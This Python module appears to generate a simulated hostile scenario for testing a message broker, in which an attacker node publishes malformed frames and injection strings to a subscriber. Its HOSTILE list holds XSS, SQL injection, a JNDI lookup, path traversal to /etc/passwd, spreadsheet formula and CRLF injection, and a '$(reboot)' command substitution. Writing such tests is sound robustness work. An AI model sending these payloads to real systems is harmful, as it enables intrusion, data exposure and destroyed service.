"""Hostile traffic: a building, and attackers in it. What they send is malformed (the faults ``wire-*`` and their
like do that), or valid and meant to break whoever shows it: a terminal, a browser, a spreadsheet, a log.

All of it fits within the broker's limits, so that every valid message has its right outcome.
"""

from __future__ import annotations

from generators.scenarios.building import STEP_S, create_topics, populate, vocabulary, wanted
from generators.scenarios.script import PUBLISHERS, SUBSCRIBERS, ScenarioOptions, Script, role
from generators.simulation.fault import CATALOGUE
from generators.simulation.site import Site, Verb
from generators.simulation.vocabulary import Vocabulary
from pcap_tools.dialect import Dialect

RATE = 0.15
FAULTS = (
    "wire-empty",
    "wire-unknown-type",
    "wire-incomplete",
    "wire-no-delimiter",
    "wire-bad-magic",
    "wire-bad-length",
    "wire-bad-value",
    "wire-bad-text",
    "wire-trailing-bytes",
    "wildcard-published",
    "wrong-speaker",
    "ack-unsolicited",
)
HOSTILE = (
    b"\x1b[2J\x1b[31mALERT\x1b[0m",
    b"\x1b]0;title\x07",
    b"\x9b31m",
    b"<script>alert(1)</script>",
    b"<img src=x onerror=alert(1)>",
    b"]]><!--&amp;",
    b"\"';DROP TABLE topics;--",
    b"%s%n%x%99999d",
    b"{0.__class__}{{7*7}}${jndi:ldap://example.invalid}",
    b"../../../../etc/passwd",
    b"..\\..\\windows\\win.ini",
    b'=HYPERLINK("http://example.invalid")',
    b"@SUM(1,2)",
    b"-2+3",
    b"line\r\nSet-Cookie: a=b",
    b"tab\tand,comma;semicolon|bar",
    b"nul\x00inside",
    b"$(reboot)`reboot`",
    b"\\x41\\u0041\\",
    b"  blanks  ",
    "\u202egnp.exe \u2066a\u2069".encode(),
    "zero\u200bwidth \ufeffmark".encode(),
    "e\u0301 \u212b \U0001f4a9".encode(),
    "\u2028line separator".encode(),
    b"broken \xc3\x28 \xff\xfe \xc0\xaf utf-8",
    b"surrogate \xed\xa0\x80",
)
VERY_LONG = (1_000, 900, 240)  # the broker takes topics of 1,024 bytes in 64 levels
VERY_DEEP = 60
START_S = 0.5
_LONG = tuple(b"A" * size for size in VERY_LONG)


def hostile(options: ScenarioOptions) -> Script:
    site = populate(options, options.site())
    site.settled_ns = None
    _attack(site)
    return Script([site], faults=dict.fromkeys(_fitting(site.dialect), RATE))


def _fitting(dialect: Dialect) -> list[str]:
    known = [CATALOGUE[name] for name in FAULTS if name in CATALOGUE]
    return [fault.name for fault in known if fault.fits(dialect) is None]


def _attack(site: Site) -> None:
    """The attacker publishes hostile payloads under a usual topic and usual ones under hostile topics; a victim
    listens to all of it, and so do dashboards whose wildcards take in what they did not ask for."""
    words = vocabulary(site)
    words.counts = sum(action.verb is Verb.PUBLISH for action in site.actions)  # the building's counters are used
    usual, topics = words.topics(1)[0], hostile_topics(words)
    attacker = site.node("attacker", role(site.dialect, PUBLISHERS))
    victim = site.node("victim", role(site.dialect, SUBSCRIBERS))
    time = create_topics(site, [usual, *topics], attacker, START_S)
    for text in wanted(site.dialect, [attacker], [usual, *topics]):
        if words.can_subscribe(text):
            site.at(time, victim, Verb.SUBSCRIBE, text)
            time += STEP_S
    for topic, payload in [*((usual, payload) for payload in hostile_payloads(words, usual)), *_usual(words, topics)]:
        site.at(time, attacker, Verb.PUBLISH, topic, payload)
        time += STEP_S
    if site.dialect.spec.broker.sessions != "none":
        site.at(time + 1, attacker, Verb.CLOSE)
        site.at(time + 2, victim, Verb.CLOSE)


def hostile_topics(words: Vocabulary) -> list[bytes]:
    """Those that the dialect can carry, as they are or as a level of a topic; none where topics are not text."""
    if words.dialect.spec.topics.kind not in ("text", "number"):
        return []
    separator = (words.dialect.spec.topics.separator or "/").encode()
    shapes = [*HOSTILE, *_LONG, separator.join([b"deep"] * VERY_DEEP)]
    candidates = [made for evil in shapes for made in (separator.join((b"home", evil)), evil)]
    return [topic for topic in candidates if words.can_publish(topic)]


def hostile_payloads(words: Vocabulary, topic: bytes) -> list[bytes]:
    """Those that the dialect can carry; a counter makes each another."""
    made = [b" ".join((evil, words.payload(20, topic))) for evil in (*HOSTILE, *_LONG)]
    return [payload for payload in made if words.can_publish(topic, payload)]


def _usual(words: Vocabulary, topics: list[bytes]) -> list[tuple[bytes, bytes]]:
    return [(topic, words.payload(20, topic)) for topic in topics]
